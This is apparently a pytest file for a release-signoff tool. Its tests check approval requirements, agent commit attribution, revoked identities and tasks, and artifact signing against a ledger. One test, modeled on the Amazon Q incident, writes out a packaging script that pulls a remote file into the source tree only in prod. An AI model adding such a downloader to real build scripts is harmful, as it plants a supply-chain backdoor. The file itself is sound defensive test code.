"""The issue's end-to-end release scenarios on real repositories, keys and a SQLite ledger."""

from __future__ import annotations

from collections.abc import Callable

from gitrepo import COPILOT

from signoff.ledger.events import EventDraft, EventType
from signoff.release.events import LedgerLog

from .conftest import World, failing

Make = Callable[..., World]

LOCK = '{"lockfileVersion": 3, "packages": {"node_modules/left-pad": {"version": "1.3.0"}}}\n'


def agent_lockfile_release(w: World) -> None:
    w.repo.write("package-lock.json", LOCK)
    w.repo.commit("bump left-pad", author=COPILOT)
    w.approve("alice")  # maintainers: the default approval
    w.approve("carol")  # release-managers: the lockfile rule and the release requirement


def test_approved_agent_lockfile_change_passes(world: Make) -> None:
    w = world()
    agent_lockfile_release(w)
    code, doc = w.verify()
    assert code == 0, failing(doc)
    assert doc["result"] == "PASSED"
    [lock] = [c for c in doc["changes"] if c["path"] == "package-lock.json"]
    assert lock["release_impacting"] and lock["decision"] == "allow"
    assert {s["group"] for s in doc["approvals"]} == {"maintainers", "release-managers"}
    assert all(s["state"] == "approved" for s in doc["approvals"])
    [c] = doc["commits"]
    assert c["attribution"] == "agent" and c["identities"] == ["copilot"]
    # recorded in the ledger
    with LedgerLog(w.ledger) as log:
        [ev] = [e for e in log.all() if e.type is EventType.RELEASE_VERIFIED]
    assert ev.payload["result"] == "PASSED" and ev.payload["agents"] == {"copilot": [c["sha"]]}
    code, text = w.verify(fmt="text")
    assert code == 0 and "[PASS] release-approvals" in text and "Result: PASSED" in text


def test_approval_made_stale_by_a_later_commit_fails(world: Make) -> None:
    w = world()
    agent_lockfile_release(w)
    w.repo.write("package-lock.json", LOCK.replace("1.3.0", "1.3.1"))
    w.repo.commit("tweak the lockfile after review")
    code, doc = w.verify()
    assert code == 1 and doc["result"] == "FAILED"
    problems = failing(doc)
    assert any("package-lock.json" in p and "stale approval" in p for p in problems["changes"])
    assert any("package-lock.json" in p for p in problems["release-approvals"])


def test_agent_modified_packaging_script_fails(world: Make) -> None:
    """The Amazon Q 1.84.0 shape: a downloader pushed into the packaging script, prod only."""
    w = world()
    w.repo.write(
        "scripts/package.ts",
        "build();\nif (process.env.STAGE === 'prod') {\n"
        "  download('https://github.com/x/y/raw/stability/scripts/extensionNode.bk',"
        " 'src/extensionNode.ts');\n}\n",
    )
    w.repo.commit("fix(amazonq): Shut it down", author=("aws-toolkit-automation", "a@x.invalid"))
    w.approve("alice")  # a maintainer waved it through; no release manager looked
    code, doc = w.verify()
    assert code == 1
    [p] = failing(doc)["release-approvals"]
    assert "scripts/package.ts (packaging-build)" in p and "release-managers" in p
    [c] = doc["commits"]
    assert c["attribution"] == "unverified"


def test_revoked_agent_commit_fails_the_release(world: Make) -> None:
    w = world()
    agent_lockfile_release(w)
    with LedgerLog(w.ledger) as log:
        log.append(
            EventDraft(
                EventType.IDENTITY_SUSPENDED,
                "alice@example.com",
                {"agent": "copilot"},
                {"reason": "token leaked"},
            )
        )
    code, doc = w.verify()
    assert code == 1
    assert set(failing(doc)) == {"identities"}
    assert "agent copilot was revoked" in failing(doc)["identities"][0]


def test_revoked_task_fails_the_release(world: Make) -> None:
    w = world()
    agent_lockfile_release(w)
    sha = w.repo.head()
    with LedgerLog(w.ledger) as log:
        log.append(
            EventDraft(EventType.PUSH_WITNESSED, "signoff-hook", {"commit": sha, "task": "T-7"}, {})
        )
        log.append(EventDraft(EventType.TASK_REVOKED, "alice@example.com", {"task": "T-7"}, {}))
    code, doc = w.verify()
    assert code == 1 and "task T-7, which was revoked" in failing(doc)["identities"][0]


def test_closed_task_and_revoked_tokens_do_not_revoke_the_task(world: Make) -> None:
    w = world()
    agent_lockfile_release(w)
    sha = w.repo.head()
    with LedgerLog(w.ledger) as log:
        log.append(
            EventDraft(EventType.PUSH_WITNESSED, "signoff-hook", {"commit": sha, "task": "T-8"}, {})
        )
        log.append(EventDraft(EventType.TOKEN_REVOKED, "alice@example.com", {"task": "T-8"}, {}))
        log.append(EventDraft(EventType.TASK_CLOSED, "alice@example.com", {"task": "T-8"}, {}))
    _, doc = w.verify()
    assert not any("T-8" in m for m in failing(doc).get("identities", []))


def test_artifact_signed_by_an_agent_identity_fails(world: Make) -> None:
    w = world()
    agent_lockfile_release(w)
    art = w.artifact("app-1.4.0.tgz", b"release bytes")
    head = w.repo.head()
    r = w.record("artifact built", art, "--identity", "ci@example.com", "--commit", head)
    assert r.code == 0, r.err
    # the CLI refuses an agent signer outright...
    r = w.record("artifact signed", art, "--identity", "agent:copilot")
    assert r.code == 2 and "refused" in r.err and "agent" in r.err
    r = w.record("artifact signed", art, "--identity", "ci@example.com", "--signer", "copilot")
    assert r.code == 2 and "registered agent copilot" in r.err
    # ...so a release passes only once a trusted human signer records it
    code, doc = w.verify("--artifact", str(art))
    assert code == 1 and "not signed" not in str(doc) and "signed by a trusted" in str(doc)
    assert w.record("artifact signed", art, "--identity", "signer@example.com").code == 0
    code, doc = w.verify("--artifact", str(art))
    assert code == 0, failing(doc)
    # an agent's signature slipped into the ledger some other way fails the release
    with LedgerLog(w.ledger) as log:
        digest = doc["artifacts"][0]["digest"]
        log.append(
            EventDraft(
                EventType.ARTIFACT_SIGNED,
                "agent:copilot",
                {"artifact": digest},
                {"signer": "agent:copilot"},
            )
        )
    code, doc = w.verify("--artifact", str(art))
    assert code == 1
    assert any("artifact.signed by an agent identity" in p for p in failing(doc)["artifacts"])
